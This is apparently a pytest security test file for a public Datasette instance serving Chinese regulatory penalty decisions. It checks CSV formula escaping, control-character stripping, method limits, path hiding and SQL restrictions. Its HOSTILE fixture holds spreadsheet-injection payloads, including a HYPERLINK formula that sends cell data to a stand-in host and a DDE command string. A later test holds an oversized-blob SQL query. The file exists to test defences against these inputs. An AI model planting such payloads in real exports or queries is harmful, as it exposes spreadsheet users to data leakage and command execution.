"""A public instance is safe by default: what one anonymous visitor can do to everyone else, tried."""

from __future__ import annotations

import csv
import io
import shutil

import pytest
import sqlite_utils

from db.load import load_decision
from db.search import build_search_index
from nlp.records import Authority, Decision, Party, Sanction
from regkb.cli import datasette_args
from tests.conftest import demo_database
from tests.web.conftest import app, get

HOSTILE = {"title": "=HYPERLINK(\"http://evil.example/?\"&A1,\"点此\")", "party": "@SUM(1+1)*cmd|' /C calc'!A0",
           "role": "+1+1", "facts": "-2+3 违规发放贷款\x1b[31m\x00"}


@pytest.fixture(scope="module")
def hostile_db(tmp_path_factory):
    """The demo database plus one decision whose texts are formulas and control characters, as a hostile page
    could make them (loaded directly, past extraction)."""
    path = tmp_path_factory.mktemp("hostile") / "regkb.db"
    shutil.copy(demo_database(), path)
    db = sqlite_utils.Database(path)
    authority = Authority(name="四川银保监局", canonical="中国银保监会四川监管局", regulator="CBIRC",
                          level="provincial bureau", province="四川省")
    party = Party(name=HOSTILE["party"], kind="institution", role=HOSTILE["role"],
                  sanctions=[Sanction(type="fine", label="罚款", amount_yuan=100_000, text="罚款10万元")])
    load_decision(db, Decision(source="test", doc_id="formula", doc_format="table", title=HOSTILE["title"],
                               authority=authority, authority_name="四川银保监局", decision_date="2099-01-01",
                               publish_date="2099-01-01", facts=HOSTILE["facts"], parties=[party]))
    build_search_index(db)
    db.conn.commit()
    db.conn.close()
    return path


def test_datasette_csv_carries_no_live_formula(hostile_db):
    served = app(hostile_db)
    response = get("/regkb/parties.csv", served, _size="max", name=HOSTILE["party"])
    rows = list(csv.DictReader(io.StringIO(response.content.decode("utf-8-sig"))))
    assert [row["name"] for row in rows] == ["'" + HOSTILE["party"]] and rows[0]["role"] == "'+1+1"
    assert rows[0]["fine_yuan"] == "100000.0"                      # numbers stay numbers
    decisions = get("/regkb/decisions.csv", served, _size="max", doc_id="formula", _stream="on").content
    assert decisions.startswith("\ufeff".encode()) and b"'=HYPERLINK" in decisions
    assert not any(line.startswith(("=", "+", "@")) for row in csv.reader(io.StringIO(decisions.decode("utf-8-sig")))
                   for line in row)


def test_control_characters_never_reach_the_feed_or_the_database(hostile_db):
    served = app(hostile_db)
    feed = get("/regkb/feed.atom", served, province="", category="")
    assert feed.status_code == 200 and "违规发放贷款[31m" in feed.text
    stored = sqlite_utils.Database(hostile_db).execute("select facts from decisions where doc_id = 'formula'").fetchone()
    assert stored == ("-2+3 违规发放贷款[31m",)


def test_only_get_and_head_are_answered():
    for path in ("/regkb/decisions", "/regkb/precedents", "/regkb", "/"):
        response = _request("POST", path)
        assert response.status_code == 405 and "GET" in response.headers["allow"], path


def _request(method: str, path: str):
    import asyncio

    from tests.web.conftest import demo_app

    served = demo_app()

    async def send():
        return await served.client.request(method, path)

    return asyncio.run(send())


def test_a_sort_by_no_column_is_a_400_naming_the_columns():
    response = get("/regkb/decisions", status=400, _sort="junk")
    assert "cannot be sorted by 'junk'" in response.text and "decision_date" in response.text
    get("/regkb/decisions", _sort_desc="decision_date")


def test_the_database_listing_does_not_say_where_the_file_is():
    listing = get("/-/databases.json").json()
    assert listing[0]["name"] == "regkb" and "path" not in listing[0]
    assert str(demo_database()) not in get("/-/databases.json").text


def test_one_query_cannot_take_gigabytes():
    response = get("/regkb.json", status=400, sql="select hex(randomblob(400000000))")
    assert "too big" in response.text


def test_off_loopback_arbitrary_sql_is_off_and_canned_queries_stay():
    public = datasette_args(demo_database(), "0.0.0.0", 8001)
    assert ["--setting", "default_allow_sql", "off"] == public[public.index("default_allow_sql") - 1:][:3]
    assert "default_allow_sql" not in datasette_args(demo_database(), "127.0.0.1", 8001)
    assert "default_allow_sql" not in datasette_args(demo_database(), "0.0.0.0", 8001, allow_sql=True)
    served = _public_app()
    get("/regkb.json", served, status=403, sql="select 1")
    assert get("/regkb/largest_fines.json", served, province="", year="").json()["rows"]
    assert get("/regkb/decisions.json", served, _size=1).json()["rows"]


def _public_app():
    import asyncio

    from datasette.cli import serve

    args = datasette_args(demo_database(), "0.0.0.0", 8001)
    context = serve.make_context("serve", args[1:])
    instance = serve.callback(**context.params, return_instance=True)
    asyncio.run(instance.invoke_startup())
    return instance


def test_the_policy_on_people_named_is_a_page_of_its_own():
    page = get("/privacy").text
    assert "当事人个人信息政策" in page and "身份证号码" in page and "redactions" in page
    assert 'href="/privacy"' in get("/").text
